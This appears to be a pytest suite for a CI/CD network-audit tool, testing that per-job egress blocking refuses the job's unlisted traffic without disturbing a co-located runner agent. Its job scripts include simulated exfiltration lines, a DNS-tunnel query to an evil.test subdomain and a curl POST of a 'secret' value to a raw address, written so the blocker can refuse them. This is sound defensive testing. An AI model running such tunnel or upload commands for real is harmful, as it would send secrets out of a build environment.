"""Blocking judges the job and nothing else (recorder/attach/job_scope.py, bpf/job_scope.h).

A "runner agent" shares the host with the job, as on a self-hosted runner:
in the job's network namespace and in another one whose traffic crosses the
recorded interface. Every 100 ms, through the whole blocked run, it looks up
a name the job's policy does not list and opens a connection to an address
the policy does not list. It must see zero failures, while the job's own
unlisted destinations, tunnel queries and raw-address uploads are refused.
"""

from __future__ import annotations

import os
import re
import shlex
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from cicd_audit.lab import CICD_AUDIT, CONTAINER_V4, HTTP_PORT, OTHER_V4, V4, in_cgroup, in_netns
from cicd_audit.zeeklog.reader import read_log

pytestmark = [pytest.mark.root, pytest.mark.netns, pytest.mark.slow]

POLICY = "allowed:\n  domains: [www.example.test]\n"
CURL = ["curl", "-s", "-o", "/dev/null", "--max-time", "3", "-w", "%{http_code}"]

# The runner agent: an unlisted name and an unlisted address every 100 ms until
# the stop file appears; prints "ok N fail M" and each failure.
AGENT = r"""
import os, socket, struct, sys, time
resolver, http_addr, http_port, stop_file = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]

def lookup(i):
    qname = b"".join(bytes([len(x)]) + x for x in b"control.example.test".split(b".")) + b"\0"
    query = struct.pack("!6H", i & 0xffff, 0x0100, 1, 0, 0, 0) + qname + struct.pack("!2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.connect((resolver, 53))
        s.send(query)
        reply = s.recv(512)
    rcode, answers = reply[3] & 0xF, struct.unpack("!H", reply[6:8])[0]
    if rcode != 0 or answers < 1:
        raise OSError(f"DNS rcode {rcode}, {answers} answers")

def connect(i):
    with socket.create_connection((http_addr, http_port), timeout=1) as c:
        c.sendall(b"GET / HTTP/1.0\r\n\r\n")
        if not c.recv(12).startswith(b"HTTP/1."):
            raise OSError("no HTTP reply")

ok, failures = 0, []
i = 0
print("ready", flush=True)
while not os.path.exists(stop_file):
    for check in (lookup, connect):
        try:
            check(i)
            ok += 1
        except OSError as exc:
            failures.append(f"{check.__name__}: {exc}")
    i += 1
    time.sleep(0.1)
print("ok", ok, "fail", len(failures), flush=True)
for f in failures:
    print(f, flush=True)
"""


class Agent:
    """The agent script running under argv_prefix (a namespace and/or cgroup), until stop()."""

    def __init__(self, argv_prefix, stop_file: Path, resolver: str = V4[1]) -> None:
        self.stop_file = stop_file
        argv = [*argv_prefix, sys.executable, "-c", AGENT, resolver, OTHER_V4, str(HTTP_PORT), str(stop_file)]
        self.proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        first = self.proc.stdout.readline()
        if first != "ready\n":
            self.proc.kill()
            raise RuntimeError(f"the agent did not start: {first}{self.proc.stdout.read()}")

    def stop(self) -> tuple[int, list[str]]:
        self.stop_file.touch()
        out, _ = self.proc.communicate(timeout=30)
        ok, fail = re.search(r"ok (\d+) fail (\d+)", out).groups()
        return int(ok), out.splitlines()[1:] if int(fail) else []


@pytest.fixture
def policy(tmp_path) -> Path:
    p = tmp_path / "policy.yml"
    p.write_text(POLICY)
    return p


JOB_SCRIPT = "; ".join([
    "sleep 1",
    f"echo raw $({shlex.join(CURL)} http://{OTHER_V4}:{HTTP_PORT}/)",
    "echo unlisted $(dig +tries=1 +time=1 control.example.test | grep -oE 'status: [A-Z]+')",
    "echo tunnel $(dig +tries=1 +time=1 MZXW6YTBOI.t.evil.test | grep -oE 'status: [A-Z]+')",
    f"echo upload $(curl -s -o /dev/null --max-time 3 -d secret=MZXW6YTBOI http://{OTHER_V4}:{HTTP_PORT}/; echo $?)",
    f"echo allowed $({shlex.join(CURL)} http://www.example.test:{HTTP_PORT}/)",
    "sleep 1",
])


def job_results(stdout: str) -> dict[str, str]:
    return dict(line.split(" ", 1) for line in stdout.strip().splitlines() if " " in line)


def assert_job_refused(seen: dict[str, str]) -> None:
    assert seen["raw"] == "000", seen
    assert seen["unlisted"] == "status: NXDOMAIN", seen
    assert seen["tunnel"] == "status: NXDOMAIN", seen
    assert seen["upload"] == "7", seen          # curl: could not connect
    assert seen["allowed"] == "200", seen


def test_runner_agent_beside_the_job_never_fails(lab, tmp_path, policy):
    """--cgroup JOB: an agent outside JOB in the job's namespace, and one in a container
    namespace whose packets the recorded interface forwards, both outside the job."""
    container = lab.add_container()
    agents = [Agent(in_netns(lab.client_ns, []), tmp_path / "stop-same"),
              Agent(in_netns(container.ns, []), tmp_path / "stop-other")]
    try:
        out = tmp_path / "logs"
        r = lab.record(out, ["sh", "-c", JOB_SCRIPT], "--block", "--policy", str(policy), "--resolver", V4[1])
    finally:
        results = [agent.stop() for agent in agents]
    assert r.returncode == 0, r.stderr
    assert_job_refused(job_results(r.stdout))
    for (ok, failures), where in zip(results, ("the job's namespace", "another namespace")):
        assert failures == [], f"the runner agent in {where} was hurt by the job's policy: {failures}"
        assert ok >= 40, f"the agent in {where} ran {ok} checks: too few to cover the run"
    # The agent's traffic is recorded, not judged.
    conns = list(read_log(out / "conn.log")[1])
    for agent_address in (V4[0], CONTAINER_V4[1]):
        agent_conns = [c for c in conns if (c["id.orig_h"], c["id.resp_h"]) == (agent_address, OTHER_V4)]
        answered = [c for c in agent_conns if c["resp_bytes"]]
        assert len(answered) >= 20, f"the agent at {agent_address} had {len(answered)} connections answered"
        assert not any(c["blocked"] for c in agent_conns)
    notices = list(read_log(out / "notice.log")[1])
    agent_pids = {agent.proc.pid for agent in agents}
    assert notices and not [n for n in notices if n["proc.pid"] in agent_pids], "only the job's refusals are notices"


def test_command_gets_a_cgroup_of_its_own(lab, tmp_path, policy):
    """record --block -- CMD (no --cgroup): CMD runs in a cgroup made for it below the
    recorder's; a process in the recorder's own cgroup, in the same namespace, is not
    judged; what CMD leaves running is killed and its cgroup removed at the end."""
    agent = Agent(in_netns(lab.client_ns, in_cgroup(lab.cgroup, [])), tmp_path / "stop")
    script = f"cat /proc/self/cgroup; sleep 300 & echo leftover $!; {JOB_SCRIPT}"
    argv = [CICD_AUDIT, "record", "--out", str(tmp_path / "logs"), "--iface", lab.client_if,
            "--block", "--policy", str(policy), "--resolver", V4[1], "--", "sh", "-c", script]
    try:
        r = lab.run(lab.client_ns, lab.in_cgroup(argv))
    finally:
        ok, failures = agent.stop()
    assert r.returncode == 0, r.stderr
    assert failures == [] and ok >= 40, (ok, failures)
    seen = job_results(r.stdout)
    assert_job_refused(seen)
    job_line = next(line for line in r.stdout.splitlines() if line.startswith("0::"))
    job_cgroup = re.fullmatch(rf"0::(.*/{lab.cgroup.name}/cicd-audit-job-\d+)", job_line)
    assert job_cgroup, f"the command ran in {job_line}"
    assert "blocking judges cgroup" in r.stderr and job_cgroup.group(1) in r.stderr
    assert not (lab.cgroup / Path(job_cgroup.group(1)).name).exists(), "the job's cgroup was left behind"
    leftover = int(seen["leftover"])
    assert not _alive(leftover), "a process the job left running survived the recording"


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    # A zombie whose parent has not reaped it yet is dead too.
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except FileNotFoundError:
            return False
        if state in ("Z", "X"):
            return False
        time.sleep(0.05)
    return True


@pytest.mark.parametrize("options, message", [
    (["--block"], "--block judges a job"),
    (["--block-host", "--cgroup", "/sys/fs/cgroup"], "--block-host judges the whole host"),
    (["--block", "--runner-endpoints", "x.yml", "--cgroup", "/sys/fs/cgroup"], "--runner-endpoints goes with --block-host"),
])
def test_blocking_without_a_scope_is_a_usage_error(lab, tmp_path, policy, options, message):
    """Refused before anything is attached or written (run in the lab's namespace all the same)."""
    out = tmp_path / "logs"
    argv = [CICD_AUDIT, "record", "--out", str(out), "--iface", lab.client_if, "--policy", str(policy), *options]
    r = lab.run(lab.client_ns, argv)
    assert r.returncode == 2, r.stderr
    assert message in r.stderr and "Traceback" not in r.stderr
    assert not out.exists()
    assert lab.tc_filters() == ""


def test_shipped_runner_endpoints_parse_and_widen_the_policy(tmp_path):
    from cicd_audit.policy import load_policy
    from cicd_audit.recorder.agent.runner_endpoints import runner_endpoints, with_runner_endpoints

    shipped = runner_endpoints()
    names = {r.text for r in shipped.domains}
    assert {"github.com:443", "*.actions.githubusercontent.com:443", "gitlab.com:443"} <= names
    base = tmp_path / "p.yml"
    base.write_text(POLICY)
    widened = with_runner_endpoints(load_policy(base))
    assert widened.allows_name("www.example.test") and widened.allows_name("pipelines.actions.githubusercontent.com")
    own = tmp_path / "own.yml"
    own.write_text("allowed:\n  domains: [ghe.corp.example]\n")
    assert {r.text for r in with_runner_endpoints(load_policy(base), own).domains} == {"www.example.test",
                                                                                        "ghe.corp.example"}


def test_a_signal_to_the_recorder_also_ends_the_job(lab, tmp_path, policy):
    """SIGTERM to `record --block -- CMD`: the recording closes cleanly and nothing of the
    job, nor its cgroup, outlives it."""
    argv = [CICD_AUDIT, "record", "--out", str(tmp_path / "logs"), "--iface", lab.client_if,
            "--block", "--policy", str(policy), "--resolver", V4[1], "--", "sh", "-c", "echo started; sleep 300"]
    proc = lab.popen(lab.client_ns, lab.in_cgroup(argv), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert proc.stdout.readline() == "started\n"
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=30)
    assert proc.returncode == 128 + signal.SIGTERM, err
    assert not list(lab.cgroup.glob("cicd-audit-job-*")), "the job's cgroup was left behind"


def test_the_jobs_lookups_through_a_local_stub_are_judged_and_the_stub_serves_the_rest(lab, tmp_path, policy):
    """resolv.conf names a stub resolver on the loopback, as systemd-resolved's 127.0.0.53 on a
    runner. The job's lookups go upstream from its own sockets instead, judged by name (a
    tunnel through the stub is refused) and learnt (an allowed name connects), while the stub
    never sees them and keeps answering the runner agent everything it asks."""
    stub_log = tmp_path / "stub.log"
    lab.popen(lab.client_ns, [
        "dnsmasq", "--no-daemon", "--no-resolv", "--no-hosts", "--listen-address", "127.0.0.53",
        "--bind-interfaces", f"--server={V4[1]}", "--cache-size=0", "--log-queries", f"--log-facility={stub_log}",
        "--pid-file=", "--user=root"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 15
    while "127.0.0.53:53" not in lab.run(lab.client_ns, ["ss", "-H", "-lun"]).stdout:
        assert time.monotonic() < deadline, "the stub resolver did not start"
        time.sleep(0.1)
    Path(f"/etc/netns/{lab.client_ns}/resolv.conf").write_text("nameserver 127.0.0.53\noptions timeout:1 attempts:1\n")
    agent = Agent(in_netns(lab.client_ns, []), tmp_path / "stop", resolver="127.0.0.53")
    script = "; ".join([
        "echo unlisted $(dig +tries=1 +time=1 jobonly.example.test | grep -oE 'status: [A-Z]+')",
        "echo tunnel $(dig +tries=1 +time=1 MZXW6YTBOI.t.evil.test | grep -oE 'status: [A-Z]+')",
        "echo answer $(dig +short +tries=1 +time=1 www.example.test A)",
        f"echo allowed $({shlex.join(CURL)} http://www.example.test:{HTTP_PORT}/)",
        "sleep 1",
    ])
    out = tmp_path / "logs"
    try:
        r = lab.record(out, ["sh", "-c", script], "--block", "--policy", str(policy), "--resolver", V4[1])
    finally:
        ok, failures = agent.stop()
    assert r.returncode == 0, r.stderr
    seen = job_results(r.stdout)
    assert seen == {"unlisted": "status: NXDOMAIN", "tunnel": "status: NXDOMAIN", "answer": V4[1], "allowed": "200"}, seen
    assert failures == [] and ok >= 20, (ok, failures)
    asked = stub_log.read_text()
    assert "control.example.test" in asked, "the agent's lookups go through the stub"
    for name in ("jobonly", "evil.test", "www.example.test"):
        assert name not in asked, f"the job's lookup of {name} went through the shared stub"
    dns = list(read_log(out / "dns.log")[1])
    judged = {d["query"]: (d["id.resp_h"], d["rcode_name"]) for d in dns if d["query"] in ("jobonly.example.test",
                                                                                               "www.example.test")}
    assert judged == {"jobonly.example.test": (V4[1], "NXDOMAIN"), "www.example.test": (V4[1], "NOERROR")}, judged
